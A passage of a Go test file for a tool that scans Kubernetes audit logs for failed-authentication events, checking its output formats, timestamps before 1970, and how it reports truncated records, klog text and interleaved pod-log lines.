		if !strings.HasSuffix(out.String(), `"auditID":"","stage":"ResponseStarted","user.groups{}":[]}`+"\n") {
			t.Fatalf("the good record after the input is lost:\n%s\n%s", out.String(), errOut.String())
		}
	})
}

// BenchmarkScan runs scan on the bundled sample, repeated, as a file of
// AKS storage-blob records.
func BenchmarkScan(b *testing.B) {
	path := filepath.Join(b.TempDir(), "audit.log")
	in := bytes.Repeat(kubefingerprint.Sample, 500)
	require.NoError(b, os.WriteFile(path, in, 0o644))
	b.SetBytes(int64(len(in)))
	b.ReportAllocs()
	for b.Loop() {
		if code := Run([]string{"--format", "csv", path}, Stdin{}, io.Discard, io.Discard); code != 0 {
			b.Fatalf("exit status %d", code)
		}
	}
}

// TestTimeBefore1970: a time before 1970 is written sign and magnitude and
// read back the same way, so the table shows the event's own time, not
// one second late.
func TestTimeBefore1970(t *testing.T) {
	ev := `{"kind":"Event","auditID":"a1","stage":"ResponseStarted","requestURI":"/api","verb":"get","user":{},"sourceIPs":["10.0.0.1"],"userAgent":"curl/8","responseStatus":{"code":401},"requestReceivedTimestamp":"1969-12-31T23:59:55.5Z"}` + "\n"
	r := scan(t, ev, "--format", "table")
	require.Equal(t, 0, r.code, r.err)
	assert.Contains(t, r.out, "1969-12-31T23:59:55.5Z")
	r = scan(t, ev, "--format", "csv")
	assert.Equal(t, "-4.500000", scanCSV(t, r.out)[1][0])
	r = scan(t, ev, "--summary", "--format", "table")
	assert.Contains(t, r.out, "1969-12-31T23:59:55.5Z  1969-12-31T23:59:55.5Z", "first and last seen")
}

// TestNoTerminal: where standard input is empty and no terminal (an IDE, a
// CI job, ssh host cmd), scan says so and how to get the sample, and
// --sample scans it anywhere. With no rows, a table or CSV prints its
// header, so that a pipeline can tell no rows from no output.
func TestNoTerminal(t *testing.T) {
	r := scan(t, "", "--format", "csv")
	require.Equal(t, 0, r.code, r.err)
	assert.Contains(t, r.err, "standard input was empty")
	assert.Contains(t, r.err, "kubefingerprint scan --sample")
	assert.Equal(t, strings.Join(fieldNames(), ",")+"\n", r.out, "the header alone")

	r = scan(t, "", "--format", "table")
	assert.True(t, strings.HasPrefix(r.out, "_time  sourceIPs{}  userAgent"), r.out)
	assert.Equal(t, 1, strings.Count(r.out, "\n"))
	r = scan(t, "", "--format", "json")
	assert.Empty(t, r.out, "JSON lines: no row is no line")

	r = scan(t, "", "--sample", "--format", "csv")
	require.Equal(t, 0, r.code, r.err)
	assert.NotContains(t, r.err, "standard input was empty")
	var want, wantErr bytes.Buffer
	require.Equal(t, 0, Run([]string{"--format", "csv"}, Stdin{Terminal: true}, &want, &wantErr))
	assert.Equal(t, want.String(), r.out, "--sample is what a terminal scans")

	r = scan(t, call401.line()+"\n", "--format", "csv")
	assert.NotContains(t, r.err, "standard input was empty")
	r = scan(t, "", "--summary", "--format", "csv")
	assert.True(t, strings.HasPrefix(r.out, "src_ip,count,"), "the summary's header: %q", r.out)
}

// TestSkippedSaysWhere: every event skipped is named with its file and
// line. Exit status 2 says audit data may have been lost (an event cut
// before its code, in a record or as a line of the file); a record whose
// properties.log holds no JSON object (the klog text of another category,
// a run of [) is named but loses nothing.
func TestSkippedSaysWhere(t *testing.T) {
	good := call401.line()
	cut := `{"kind":"Event","auditID":"c","requestURI":"/401","stage":"ResponseComplete","user":{"username":"alice"},"responseStatus":{"code":4`
	klog := `{"category":"kube-apiserver","properties":{"log":"I1120 09:01:15 401 controller.go:615] quota\n"},"resourceId":"/x/MANAGEDCLUSTERS/C"}`
	brackets := `{"category":"kube-audit","properties":{"log":"` + strings.Repeat("[", 1_000_000) + ` 401"},"resourceId":"/x/MANAGEDCLUSTERS/C"}`
	cutRecord := `{"category":"kube-audit","properties":{"log":"{\"kind\":\"Event\",\"auditID\":\"c\",\"requestURI\":\"/401\",\"responseStatus\":{\"code\":4"},"resourceId":"/x/MANAGEDCLUSTERS/C"}`
	for _, tc := range []struct {
		name, line string
		code       int
		why        string
	}{
		{"a line cut before its code", cut, 2, "a.log line 2: JSON document cut short"},
		{"a record cut before its code", cutRecord, 2, "a.log line 2: event skipped: cut short or malformed"},
		{"klog text", klog, 0, "a.log line 2: event skipped: not JSON (klog text"},
		{"a million [", brackets, 0, "a.log line 2: event skipped: not JSON"},
	} {
		logs := writeFile(t, "a.log", good+"\n"+tc.line+"\n"+good+"\n")
		r := scan(t, "", "--format", "csv", logs)
		assert.Equal(t, tc.code, r.code, "%s: %s", tc.name, r.err)
		assert.Contains(t, r.err, tc.why, tc.name)
		assert.Len(t, scanCSV(t, r.out), 3, "%s: both good rows", tc.name)
	}
	// A failed authentication cut before its code is a row, its 401
	// inferred; the file is still named as cut at that line.
	failed := strings.Replace(cut, `"stage":"ResponseComplete","user":{"username":"alice"}`, `"stage":"ResponseStarted","user":{}`, 1)
	r := scan(t, "", "--format", "csv", writeFile(t, "a.log", good+"\n"+failed+"\n"+good+"\n"))
	assert.Equal(t, 2, r.code, r.err)
	assert.Contains(t, r.err, "a.log line 2: JSON document cut short")
	assert.Contains(t, r.err, "events read: 3, rows emitted: 3, events skipped as unparsable: 0")
	rows := scanCSV(t, r.out)
	require.Len(t, rows, 4)
	assert.Equal(t, []string{"/401", "401", "code inferred"}, []string{rows[2][4], rows[2][9], rows[2][10]})
}

// TestNoticesDoNotHideLosses: klog records of another category are named,
// ten a file, but they do not use up the lines that name where audit data
// may have been lost.
func TestNoticesDoNotHideLosses(t *testing.T) {
	klog := `{"category":"kube-apiserver","properties":{"log":"I1120 09:01:15 controller.go:615] quota\n"},"resourceId":"/x/MANAGEDCLUSTERS/C"}`
	cut := `{"kind":"Event","auditID":"c","requestURI":"/x","stage":"ResponseComplete","user":{"username":"alice"},"responseStatus":{"code":4`
	content := strings.Repeat(klog+"\n", 20) + cut + "\n"
	r := scan(t, "", "--format", "csv", writeFile(t, "a.log", content))
	assert.Equal(t, 2, r.code, r.err)
	assert.Contains(t, r.err, "a.log line 21: JSON document never ends")
	assert.Contains(t, r.err, "a.log: 10 more records without audit data not shown")
	assert.Equal(t, 10, strings.Count(r.err, "event skipped: not JSON"))
}

// TestPodLog: an API server's pod log, its klog lines on stderr among the
// audit events it writes to stdout, behind the container runtime's prefix:
// every event is read, the klog lines are named as not JSON and lose
// nothing (exit status 0); a partial line that a line of the other stream
// interrupts ends there, read as far as it goes.
func TestPodLog(t *testing.T) {
	c := call401 // a bare event
	c.cluster = ""
	ev := c.line()
	const out, errs = "2026-11-20T10:00:00.123456789Z stdout ", "2026-11-20T10:00:00.123456789Z stderr "
	var b strings.Builder
	for range 12 {
		b.WriteString(errs + "F I1120 10:00:00.000000       1 controller.go:615] quota\n")
		b.WriteString(out + "F " + ev + "\n")
	}
	r := scan(t, "", "--format", "csv", writeFile(t, "pod.log", b.String()))
	assert.Equal(t, 0, r.code, r.err)
	assert.Len(t, scanCSV(t, r.out), 13)
	assert.Contains(t, r.err, "events read: 24, rows emitted: 12, events skipped as unparsable: 12")
	assert.Contains(t, r.err, "pod.log line 1: container output not JSON")

	// In the API server's key order: the caller before the code.
	ordered := `{"kind":"Event","apiVersion":"audit.k8s.io/v1","auditID":"p1","stage":"ResponseStarted","requestURI":"/api","verb":"get",` +
		`"user":{},"sourceIPs":["203.0.113.1"],"userAgent":"curl/8","responseStatus":{"metadata":{},"code":401}}`
	half := strings.Index(ordered, `"userAgent"`)
	r = scan(t, "", "--format", "csv", writeFile(t, "pod.log",
		out+"P "+ordered[:half]+"\n"+errs+"F I1120 klog\n"+out+"F "+ordered[half:]+"\n"+out+"F "+ev+"\n"))
	rows := scanCSV(t, r.out)
	require.Len(t, rows, 3, r.err)
	assert.Equal(t, "code inferred", rows[1][10], "the interrupted event, read as far as it goes")
	assert.Equal(t, "", rows[2][10])
}
